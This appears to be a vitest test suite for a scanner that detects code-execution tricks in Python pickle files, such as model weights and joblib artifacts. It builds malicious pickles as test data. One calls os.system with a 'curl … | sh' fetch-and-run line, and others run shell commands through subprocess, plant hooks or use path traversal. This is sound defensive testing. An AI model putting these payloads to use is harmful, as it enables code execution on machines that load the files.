import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ALLOWED_NAMES } from '../../../../analyzers/pickle/allowlist.js';
import { CALLABLE_EFFECTS, MODULE_JUSTIFICATION, type ArgEffect } from '../../../../analyzers/pickle/effects.js';
import { policyFor } from '../../../../analyzers/pickle/policy.js';
import { DEFAULT_SETTINGS } from '../../../../analyzers/settings.js';
import { op, pickle, stackGlobal } from './builder.js';
import { FIXTURES, atLeast, fixture, scan, summary } from './helpers.js';

const policy = policyFor(DEFAULT_SETTINGS.pickle);
/** A global no list knows: High when something runs it, Medium when it is only imported. */
const PLANT = stackGlobal('mylib.payload', 'Run');

/** `module.name(*args)` with each argument pushed by its own bytes. */
const callOf = (module: string, name: string, args: Uint8Array[]): Uint8Array =>
  pickle(stackGlobal(module, name), op.mark(), ...args, op.tuple(), op.reduce());

/** How `mylib.payload.Run` is judged in a pickle. */
async function judged(bytes: Uint8Array): Promise<string[]> {
  const findings = await scan(bytes);
  return findings.filter((f) => f.details?.global === 'mylib.payload.Run').map((f) => f.ruleId);
}

/** The value to plant for an effect: the global itself, or a dict holding it (`{0: Run}`) for hooks. */
const planted = (effect: ArgEffect): Uint8Array =>
  effect === 'calls-contents' ? pickle(op.emptyDict(), op.binint1(0), PLANT, op.setitem()) : PLANT;

const positions = Object.entries(CALLABLE_EFFECTS).flatMap(([qualified, effects]) => {
  const dot = qualified.lastIndexOf('.');
  const [module, name] = [qualified.slice(0, dot), qualified.slice(dot + 1)];
  return effects.args.flatMap((effect, i) => {
    const runs = effect === 'call' || effect === 'class' || effect === 'calls-contents' || effects.forwards?.callee === i;
    return runs ? [{ qualified, module, name, i, effect, arity: effects.args.length }] : [];
  });
});

describe('effects of allowlisted callables', () => {
  it.each(positions.map((p) => [`${p.qualified} argument ${p.i} (${p.effect})`, p] as const))(
    'should judge a global in %s as invoked',
    async (_what, p) => {
      const args = Array.from({ length: p.arity }, (_, j) => (j === p.i ? planted(p.effect) : new Uint8Array(op.none())));
      expect(await judged(pickle(op.proto(4), callOf(p.module, p.name, args), op.stop()))).toEqual(['pickle.non-allowlisted-call']);
    },
  );

  it('should keep a global in a data position an import, not a call', async () => {
    const args = [PLANT, ...Array.from({ length: 5 }, () => new Uint8Array(op.none()))];
    expect(await judged(pickle(op.proto(4), callOf('torch._utils', '_rebuild_tensor_v2', args), op.stop()))).toEqual(['pickle.non-allowlisted-import']);
  });

  it.each([
    ['an OrderedDict built from pairs', pickle(stackGlobal('collections', 'OrderedDict'), op.emptyList(), op.mark(), op.binint1(0), PLANT, op.tuple2(), op.appends(), op.tuple1(), op.reduce())],
    ['an OrderedDict filled by SETITEMS', pickle(stackGlobal('collections', 'OrderedDict'), op.emptyTuple(), op.reduce(), op.mark(), op.binint1(0), PLANT, op.setitems())],
    ['a list of pairs', pickle(op.mark(), op.binint1(0), PLANT, op.tuple2(), op.list())],
  ])('should find a backward hook held in %s', async (_how, hooks) => {
    const args = [...Array.from({ length: 5 }, () => new Uint8Array(op.none())), hooks];
    expect(await judged(pickle(op.proto(4), callOf('torch._utils', '_rebuild_tensor_v2', args), op.stop()))).toEqual(['pickle.non-allowlisted-call']);
  });

  it('should follow a forwarding helper two levels down', async () => {
    const v2 = (func: Uint8Array, args: Uint8Array): Uint8Array =>
      pickle(stackGlobal('torch._tensor', '_rebuild_from_type_v2'), op.mark(), func, stackGlobal('torch', 'Tensor'), args, op.emptyDict(), op.tuple(), op.reduce());
    const inner = pickle(op.mark(), PLANT, stackGlobal('torch', 'Tensor'), op.emptyTuple(), op.emptyDict(), op.tuple());
    const bytes = pickle(op.proto(4), v2(stackGlobal('torch._tensor', '_rebuild_from_type_v2'), inner), op.stop());
    expect(await judged(bytes)).toEqual(['pickle.non-allowlisted-call']);
  });

  it('should fail closed when a forwarding helper is given its arguments as a list', async () => {
    const v2 = stackGlobal('torch._tensor', '_rebuild_from_type_v2');
    const list = pickle(op.mark(), PLANT, op.list());
    const bytes = pickle(op.proto(4), callOf('torch._tensor', '_rebuild_from_type_v2', [v2, stackGlobal('torch', 'Tensor'), list, pickle(op.emptyDict())]), op.stop());
    const findings = await scan(bytes);
    expect(findings.map((f) => `${f.severity} ${f.ruleId}`)).toContain('High pickle.dynamic-call');
    expect(findings.find((f) => f.details?.global === 'mylib.payload.Run')?.ruleId).toBe('pickle.non-allowlisted-call');
  });

  it('should judge the state keys a joblib wrapper acts on', async () => {
    const state = pickle(op.emptyDict(), op.shortBinunicode('subclass'), PLANT, op.setitem());
    const bytes = pickle(op.proto(4), stackGlobal('joblib.numpy_pickle', 'NumpyArrayWrapper'), op.emptyTuple(), op.newobj(), state, op.build(), op.stop());
    expect(await judged(bytes)).toContain('pickle.non-allowlisted-call');
  });

  it('should import what _ufunc_reconstruct names and judge the result', async () => {
    const reconstruct = (module: string, name: string): Uint8Array =>
      callOf('numpy.core', '_ufunc_reconstruct', [pickle(op.shortBinunicode(module)), pickle(op.shortBinunicode(name))]);
    expect(summary(await scan(pickle(op.proto(4), reconstruct('numpy.core.umath', 'add'), op.stop())))).toEqual([]);
    expect(await judged(pickle(op.proto(4), reconstruct('mylib.payload', 'Run'), op.stop()))).toEqual(['pickle.non-allowlisted-import']);
    expect(await judged(pickle(op.proto(4), reconstruct('mylib.payload', 'Run'), op.shortBinunicode('x'), op.tuple1(), op.reduce(), op.stop()))).toEqual(['pickle.non-allowlisted-call']);
    const osSystem = await scan(pickle(op.proto(4), reconstruct('os', 'system'), op.stop()));
    expect(osSystem.map((f) => `${f.severity} ${f.details?.global}`)).toEqual(['Critical os.system']);
  });

  it('should fail closed when _ufunc_reconstruct is given a computed name', async () => {
    const computed = callOf('builtins', 'str', [PLANT]);
    const bytes = pickle(op.proto(4), callOf('numpy.core', '_ufunc_reconstruct', [computed, pickle(op.shortBinunicode('system'))]), op.stop());
    expect((await scan(bytes)).map((f) => f.ruleId)).toContain('pickle.unresolved-global');
  });

  it.each([
    ['BUILD', op.build(), pickle(op.emptyDict())],
    ['SETITEM', op.setitem(), pickle(op.shortBinunicode('k'), op.none())],
    ['APPEND', op.append(), pickle(op.none())],
  ])('should report %s on the result of a call made at load time as code-execution grade', async (_op, opcode, operands) => {
    // `getattr`-style chain: the callable is itself a call result, so what gets state is unknowable.
    const dynamic = pickle(callOf('collections', 'OrderedDict', []), op.emptyTuple(), op.reduce());
    const findings = await scan(pickle(op.proto(4), dynamic, operands, opcode, op.stop()));
    expect(findings.filter((f) => f.ruleId === 'pickle.global-mutation').map((f) => f.severity)).toEqual(['Critical']);
  });

  it('should read numpy 2.x generator pickles (a class, then an instance, in the constructor position) as clean', async () => {
    // numpy 2.x: BitGenerator.__reduce__ is (__bit_generator_ctor, (type(self),), state); Generator's is
    // (__generator_ctor, (self.bit_generator,), None).
    const bitGenerator = pickle(callOf('numpy.random._pickle', '__bit_generator_ctor', [stackGlobal('numpy.random._pcg64', 'PCG64')]), op.emptyDict(), op.build());
    const bytes = pickle(op.proto(4), callOf('numpy.random._pickle', '__generator_ctor', [bitGenerator]), op.stop());
    expect(summary(await scan(bytes))).toEqual([]);
  });

  it('should see state given through a helper that returns its argument as state on that argument', async () => {
    const bytes = pickle(op.proto(4), callOf('torch.jit._pickle', 'restore_type_tag', [PLANT, pickle(op.shortBinunicode('List[int]'))]), op.emptyDict(), op.build(), op.stop());
    expect((await scan(bytes)).map((f) => `${f.severity} ${f.ruleId}`)).toContain('Critical pickle.global-mutation');
  });

  it('should not report state given to a fresh object of an allowed class', async () => {
    const bytes = pickle(op.proto(4), stackGlobal('argparse', 'Namespace'), op.emptyTuple(), op.newobj(), op.emptyDict(), op.build(), op.stop());
    expect(await scan(bytes)).toEqual([]);
  });
});

describe('evidence of what runs', () => {
  it('should quote the call with its arguments, escaped and truncated, in the message and details', async () => {
    const long = `curl http://203.0.113.9/x | sh\u0000\u001b[2J${'A'.repeat(100)}`;
    const bytes = pickle(op.proto(4), stackGlobal('os', 'system'), op.binunicode(long), op.tuple1(), op.reduce(), op.stop());
    const [finding] = await scan(bytes);
    const call = String(finding!.details?.call);
    expect(call.startsWith("os.system('curl http://203.0.113.9/x | sh\\x00\\x1b[2J")).toBe(true);
    expect(call).toMatch(/…'\)$/);
    expect(call.length).toBeLessThan(120);
    expect(call).not.toMatch(/[\u0000-\u001f]/);
    expect(finding!.message).toContain(call);
  });

  it('should say through which allowed callable a global runs', async () => {
    const bytes = pickle(op.proto(4), callOf('numpy.random._pickle', '__generator_ctor', [pickle(op.shortBinunicode('MT19937')), PLANT]), op.stop());
    const finding = (await scan(bytes)).find((f) => f.details?.global === 'mylib.payload.Run');
    expect(finding?.details?.via).toBe('argument 1 of numpy.random._pickle.__generator_ctor, which calls it');
    expect(finding?.details?.call).toBe("mylib.payload.Run('MT19937')");
  });
});

describe('the effects table', () => {
  it('should only describe allowlisted callables, each with what it does with its arguments', () => {
    for (const [qualified, effects] of Object.entries(CALLABLE_EFFECTS)) {
      const dot = qualified.lastIndexOf('.');
      expect(policy.classify(qualified.slice(0, dot), qualified.slice(dot + 1)).kind, qualified).toBe('allowed');
      expect(effects.why.length, qualified).toBeGreaterThan(10);
    }
  });

  it('should justify every allowlisted module', () => {
    expect(Object.keys(ALLOWED_NAMES).filter((m) => !Object.hasOwn(MODULE_JUSTIFICATION, m))).toEqual([]);
  });

  it('should no longer trust torch._utils helpers by name pattern', () => {
    expect(policy.classify('torch._utils', '_rebuild_anything_new').kind).toBe('unknown');
  });
});

describe('effects fixtures written by the real libraries and their malicious twins', () => {
  const dir = (kind: string): string[] => readdirSync(join(FIXTURES, 'effects', kind)).filter((f) => f.endsWith('.pkl'));

  it.each(dir('benign'))('should report nothing on benign %s', async (name) => {
    expect(summary(await scan(fixture(`effects/benign/${name}`)))).toEqual([]);
  });

  it.each(dir('malicious'))('should flag malicious %s as Critical and say what runs', async (name) => {
    const critical = atLeast(await scan(fixture(`effects/malicious/${name}`)), 'Critical');
    expect(critical.length).toBeGreaterThan(0);
    // The call with its arguments, or the code the object would exec().
    expect(critical.some((f) => typeof f.details?.call === 'string' || f.message.includes('touch effects-fixture-ran'))).toBe(true);
  });
});

describe('joblib sidecar wrappers', () => {
  const wrapper = (filename: Uint8Array): Uint8Array =>
    pickle(op.proto(4), op.global('joblib.numpy_pickle', 'NDArrayWrapper'), op.emptyTuple(), op.newobj(),
      op.emptyDict(), op.shortBinunicode('filename'), filename, op.setitem(), op.shortBinunicode('subclass'), op.global('numpy', 'ndarray'), op.setitem(),
      op.build(), op.stop());

  it('should accept a sidecar file next to the pickle', async () => {
    expect(summary(await scan(wrapper(pickle(op.shortBinunicode('model.pkl_01.npy')))))).toEqual([]);
  });

  it.each([
    ['a path outside the directory', pickle(op.shortBinunicode('../../../home/user/other.npy'))],
    ['an absolute path', pickle(op.shortBinunicode('/tmp/x.npy'))],
    ['a computed name', pickle(stackGlobal('builtins', 'str'), op.emptyTuple(), op.reduce())],
  ])('should flag %s as a nested load outside the artifact', async (_what, filename) => {
    const findings = await scan(wrapper(filename));
    expect(findings.some((f) => f.ruleId === 'pickle.dangerous-global' && f.severity === 'Critical' && f.message.includes('numpy.load'))).toBe(true);
  });
});

describe('getattr resolved statically', () => {
  const getattr = (target: Uint8Array, name: Uint8Array): Uint8Array => callOf('builtins', 'getattr', [target, name]);
  const rulesOf = async (bytes: Uint8Array): Promise<string[]> =>
    (await scan(pickle(op.proto(4), bytes, op.stop()))).map((f) => `${f.severity} ${f.ruleId} ${String(f.details?.global ?? '')}`);
  const fresh = pickle(stackGlobal('argparse', 'Namespace'), op.emptyTuple(), op.newobj());

  it('should judge getattr(<allowed object>, constant) as the attribute it names', async () => {
    expect(await rulesOf(getattr(fresh, pickle(op.shortBinunicode('lr'))))).toEqual(['Medium pickle.non-allowlisted-import argparse.Namespace.lr']);
    expect(await rulesOf(pickle(getattr(stackGlobal('torch', 'Tensor'), pickle(op.shortBinunicode('add'))), op.emptyTuple(), op.reduce())))
      .toEqual(['High pickle.non-allowlisted-call torch.Tensor.add']);
  });

  it('should keep dunder attributes Critical', async () => {
    expect((await rulesOf(getattr(fresh, pickle(op.shortBinunicode('__class__'))))).some((r) => r.startsWith('Critical pickle.dangerous-global argparse.Namespace.__class__'))).toBe(true);
  });

  it.each([
    ['an object outside the allowlist', getattr(PLANT, pickle(op.shortBinunicode('x')))],
    ['a computed name', getattr(fresh, callOf('builtins', 'str', [PLANT]))],
    ['the result of a call made at load time', getattr(pickle(fresh, op.emptyTuple(), op.reduce()), pickle(op.shortBinunicode('x')))],
  ])('should keep getattr on %s a Critical call', async (_what, bytes) => {
    expect(await rulesOf(bytes)).toContain('Critical pickle.dangerous-global builtins.getattr');
  });
});

describe('state applied with setattr', () => {
  const stateDict = pickle(op.emptyDict(), op.shortBinunicode('__class__'), PLANT, op.setitem());

  it('should report a dunder set through _rebuild_parameter_with_state as code-execution grade', async () => {
    const args = [pickle(op.none()), pickle(op.newFalse()), pickle(op.emptyDict()), stateDict];
    const findings = await scan(pickle(op.proto(4), callOf('torch._utils', '_rebuild_parameter_with_state', args), op.stop()));
    expect(findings.filter((f) => f.ruleId === 'pickle.global-mutation').map((f) => f.severity)).toEqual(['Critical']);
  });

  it('should report a dunder in the slot state of a BUILD', async () => {
    const bytes = pickle(op.proto(4), stackGlobal('argparse', 'Namespace'), op.emptyTuple(), op.newobj(), op.none(), stateDict, op.tuple2(), op.build(), op.stop());
    expect((await scan(bytes)).map((f) => f.ruleId)).toContain('pickle.global-mutation');
  });
});

describe('torch.nn.Module hooks', () => {
  it('should judge a callable in a module hook dict as invoked', async () => {
    const hooks = pickle(stackGlobal('collections', 'OrderedDict'), op.emptyTuple(), op.reduce(), op.binint1(0), PLANT, op.setitem());
    const state = pickle(op.emptyDict(), op.shortBinunicode('_forward_hooks'), hooks, op.setitem());
    const bytes = pickle(op.proto(4), stackGlobal('torch.nn.modules.linear', 'Linear'), op.emptyTuple(), op.newobj(), state, op.build(), op.stop());
    expect(await judged(bytes)).toEqual(['pickle.non-allowlisted-call']);
  });

  it('should still see a hook dict after more state entries than dicts keep', async () => {
    const hooks = pickle(op.emptyDict(), op.binint1(0), PLANT, op.setitem());
    const filler = Array.from({ length: 40 }, (_, i) => pickle(op.shortBinunicode(`attr${i}`), op.none()));
    const state = pickle(op.emptyDict(), op.mark(), ...filler, op.shortBinunicode('_forward_pre_hooks'), hooks, op.setitems());
    const bytes = pickle(op.proto(4), stackGlobal('torch.nn.modules.linear', 'Linear'), op.emptyTuple(), op.newobj(), state, op.build(), op.stop());
    expect(await judged(bytes)).toEqual(['pickle.non-allowlisted-call']);
  });
});

describe('__setstate__ planted on a class', () => {
  it('should judge the planted callable as called with the state of a later BUILD, and quote it', async () => {
    const planted = pickle(op.emptyDict(), op.shortBinunicode('__setstate__'), PLANT, op.setitem());
    const bytes = pickle(op.proto(4), stackGlobal('argparse', 'Namespace'), op.memoize(), op.none(), planted, op.tuple2(), op.build(), op.pop(),
      op.binget(0), op.emptyTuple(), op.newobj(), op.shortBinunicode('touch x'), op.build(), op.stop());
    const finding = (await scan(bytes)).find((f) => f.details?.global === 'mylib.payload.Run');
    expect(finding?.ruleId).toBe('pickle.non-allowlisted-call');
    expect(finding?.details?.call).toBe("mylib.payload.Run('touch x')");
  });

  it('should quote list arguments', async () => {
    const list = pickle(op.emptyList(), op.mark(), op.shortBinunicode('sh'), op.shortBinunicode('-c'), op.shortBinunicode('id'), op.appends());
    const [finding] = await scan(pickle(op.proto(4), stackGlobal('subprocess', 'check_call'), list, op.tuple1(), op.reduce(), op.stop()));
    expect(finding?.details?.call).toBe("subprocess.check_call(['sh', '-c', 'id'])");
  });
});
